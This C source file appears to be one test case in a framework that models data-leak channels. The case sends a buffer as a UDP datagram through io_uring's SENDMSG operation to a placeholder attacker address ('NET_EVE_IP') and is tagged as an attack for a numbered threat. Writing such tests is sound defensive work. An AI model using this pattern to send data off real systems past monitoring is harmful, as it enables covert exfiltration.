// SPDX-License-Identifier: GPL-3.0-or-later
/* A datagram to nobody in particular, addressed by io_uring. */
#include "flow-net.h"
#include "flow-uring.h"

static int put(void)
{
	struct net_addr a = net_at(NET_EVE_IP, FLOW_PORT);
	struct iovec iov = { flow.text, flow.len };
	struct msghdr msg = {
		.msg_name = &a.at, .msg_namelen = a.len, .msg_iov = &iov, .msg_iovlen = 1
	};
	struct io_uring_sqe sqe = { .opcode = IORING_OP_SENDMSG,
				    .fd = socket(AF_INET, SOCK_DGRAM, 0),
				    .addr = (uintptr_t)&msg,
				    .len = 1,
				    .flags = IOSQE_ASYNC };

	return ring_put(&sqe);
}

FLOW("attack: net_uring_udp; threat: #50; op: send; door: network", .make = make_udp,
     .before = before_ring, .put = put, .get = get_net);
